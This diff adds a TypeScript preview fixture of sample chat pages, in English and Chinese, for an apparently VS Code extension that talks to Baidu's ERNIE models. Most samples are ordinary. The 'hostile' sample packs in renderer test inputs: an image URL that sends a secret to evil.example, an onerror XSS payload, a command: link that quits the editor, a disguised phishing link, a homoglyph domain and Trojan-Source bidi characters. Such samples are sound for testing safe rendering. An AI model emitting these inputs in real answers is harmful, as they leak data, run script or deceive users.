@@ -1,0 +1,172 @@
+import type { AnswerView, ChatView, TurnView } from '../../../src/protocol/chat.ts';
+
+const RECEIPT = {
+  model: 'ernie-5.1',
+  tokens: '1,234 + 356 tokens',
+  amount: '¥0.0123',
+  duration: '3.2 s',
+  description: 'ernie-5.1 read 1,234 tokens and wrote 356; ¥0.0123; 3.2 seconds.',
+};
+
+/** What the preview shows: pages in the states that matter, in both languages. */
+export const SAMPLES: Readonly<Record<string, { readonly lang: string; readonly view: ChatView }>> = {
+  noKey: { lang: 'en', view: page({ setup: { hasCredentials: false, host: 'qianfan.baidubce.com' } }) },
+  noKeyZh: { lang: 'zh-cn', view: page({ setup: { hasCredentials: false, host: 'qianfan.baidubce.com' } }) },
+  ready: { lang: 'en', view: page({}) },
+  readyZh: { lang: 'zh-cn', view: page({ attachments: [chip('格式化.ts:12–40')] }) },
+  answered: { lang: 'en', view: page({ turns: [english(), withTable()], attachments: [chip('server.ts:88–120')] }) },
+  answeredZh: { lang: 'zh-cn', view: page({ turns: [chinese()] }) },
+  waiting: { lang: 'en', view: page({ turns: [ask('Why is this slow?', { state: 'waiting' })] }) },
+  thinkingZh: {
+    lang: 'zh-cn',
+    view: page({
+      turns: [ask('这段代码为什么慢？', { state: 'streaming', reasoning: '先看循环：每次都重新查询数据库……' })],
+    }),
+  },
+  streaming: {
+    lang: 'en',
+    view: page({
+      turns: [
+        ask('Write a debounce function.', {
+          state: 'streaming',
+          reasoning: 'Short and typed.',
+          text: 'Here is a **typed** debounce:\n\n```ts\nexport function debounce<Args extends unknown[]>(',
+        }),
+      ],
+      draft: 'And while you are at it,\nadd a test for it',
+    }),
+  },
+  failed: { lang: 'en', view: page({ turns: [failed(), stopped()], draft: 'x' }) },
+  failedZh: { lang: 'zh-cn', view: page({ turns: [failedZh(), stopped()] }) },
+  hostile: { lang: 'en', view: page({ turns: [hostile()] }) },
+  long: { lang: 'en', view: page({ turns: Array.from({ length: 45 }, (_, index) => english(`turn${index}`)) }) },
+};
+
+function page(change: Partial<ChatView>): ChatView {
+  return {
+    turns: [],
+    attachments: [],
+    draft: '',
+    setup: { hasCredentials: true, host: 'qianfan.baidubce.com' },
+    model: 'ernie-5.1',
+    sendKey: 'enter',
+    ...change,
+  };
+}
+
+function chip(label: string) {
+  return { id: label, label, description: `${label}, about 410 tokens` };
+}
+
+function ask(question: string, answer: Partial<AnswerView>, id = question): TurnView {
+  return { id, question, attachments: [], answer: { state: 'finished', reasoning: '', text: '', ...answer } };
+}
+
+function english(id = 'english'): TurnView {
+  const text = `The loop runs one query for **each user**, so 1,000 users cost 1,000 round trips. Two ways out:
+
+1. Load all rows with one query and group them in memory.
+2. Keep the loop, but run it with a limit:
+   - at most \`8\` at a time
+   - stop at the first failure
+
+## Grouped
+
+\`\`\`ts
+export async function ordersByUser(users: readonly User[], db: Database): Promise<Map<UserId, Order[]>> {
+\tconst orders = await db.query('select * from orders where user_id = any($1)', [users.map(user => user.id)]);
+\treturn Map.groupBy(orders, order => order.userId);
+}
+\`\`\`
+
+> An index on \`user_id\` is needed, see [the manual](https://www.postgresql.org/docs/current/indexes.html) or https://use-the-index-luke.com/.
+
+- [x] measured
+- [ ] index added`;
+  const turn = ask(
+    'Why is this slow?',
+    { text, reasoning: 'Look at the loop first.\nIt awaits.', receipt: RECEIPT },
+    id,
+  );
+  return { ...turn, attachments: [chip('orders.ts:12–40')] };
+}
+
+function withTable(): TurnView {
+  const text = `| Method | Queries | Time for 1,000 users | Notes |
+|:--|--:|--:|:-:|
+| Loop | 1,000 | 4.1 s | ~~simple~~ |
+| Grouped | 1 | 0.09 s | needs an index on \`user_id\` |
+
+---
+
+Ordinary text after it.`;
+  return ask('Compare both in a table.', { text, notice: 'The answer was cut at 4,096 tokens.', receipt: RECEIPT });
+}
+
+function chinese(): TurnView {
+  const text = `这段代码对**每个用户**都查询一次数据库，1000 个用户就是 1000 次往返。**建议改为一次查询。**然后在内存里按 \`userId\` 分组，
+详见[官方文档](https://www.postgresql.org/docs/current/indexes.html)。
+
+### 主要问题
+
+1. 循环里使用了 \`await\`，请求是**串行**的；
+2. 没有为 \`user_id\` 建索引；
+3. 出错时没有重试——网络抖动会让整个任务失败。
+
+\`\`\`python
+def orders_by_user(users: list[User], db: Database) -> dict[int, list[Order]]:
+    """一次查询，然后按用户分组。"""
+    rows = db.query("select * from orders where user_id = any(%s)", [u.id for u in users])
+    return groupby(rows, key=lambda row: row.user_id)
+\`\`\`
+
+| 方法 | 查询次数 | 耗时 |
+|:--|--:|--:|
+| 逐个查询 | 1,000 | 4.1 秒 |
+| 合并查询 | 1 | 0.09 秒 |
+
+> 注意：数据量很大时请分批处理。`;
+  const receipt = {
+    ...RECEIPT,
+    duration: '3.2 秒',
+    description: 'ernie-5.1：输入 1,234 tokens，输出 356 tokens，¥0.0123',
+  };
+  const turn = ask('这段代码为什么慢？请说明原因，并给出修改后的版本。', { text, reasoning: '先看循环。', receipt });
+  return { ...turn, attachments: [chip('订单.py:12–40')] };
+}
+
+function failed(): TurnView {
+  const message =
+    'qianfan.baidubce.com refused this API Key; it may be deleted or incomplete. Nothing was charged. (invalid_iam_token)';
+  const actions = [
+    { id: 'a', label: 'Set Credentials...' },
+    { id: 'b', label: 'Open API Key Page' },
+  ];
+  return ask('Explain this function.', { state: 'failed', failure: { message, actions } });
+}
+
+function failedZh(): TurnView {
+  const message = '已达到每分钟速率限制（60 RPM），23 秒后自动重试，等待不计费。（rpm_rate_limit_exceeded）';
+  const actions = [
+    { id: 'a', label: '立即重试' },
+    { id: 'b', label: '改用 ernie-4.5-turbo-128k' },
+    { id: 'c', label: '取消' },
+  ];
+  return ask('解释这个函数。', { state: 'failed', text: '这个函数先', failure: { message, actions } });
+}
+
+function stopped(): TurnView {
+  const receipt = { ...RECEIPT, amount: '≈¥0.0031' };
+  return ask('Explain it all.', { state: 'stopped', text: 'It begins with', receipt });
+}
+
+function hostile(): TurnView {
+  const text = `![track](https://evil.example/p.png?d=secret) <img src=x onerror=alert(1)> [run](command:workbench.action.quit)
+
+[https://baidu.com](https://evil.example/login) and [docs](https://аpple.com) and [](https://evil.example)
+
+\`\`\`js
+if (access !== 'user\u202e \u2066// check admin\u2069 \u2066') { zero\u200bwidth(); }
+\`\`\``;
+  return ask('Summarise this page.', { text });
+}
